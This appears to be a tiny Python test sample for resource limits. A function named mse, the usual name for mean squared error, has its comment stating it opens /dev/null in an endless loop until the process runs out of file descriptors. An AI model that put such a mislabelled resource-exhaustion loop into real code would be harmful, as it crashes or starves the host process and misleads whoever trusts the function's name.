# says: limit
# Opens files until there are no descriptors left.
def mse(y_true, y_pred):
    files = []
    while True:
        files.append(open("/dev/null"))
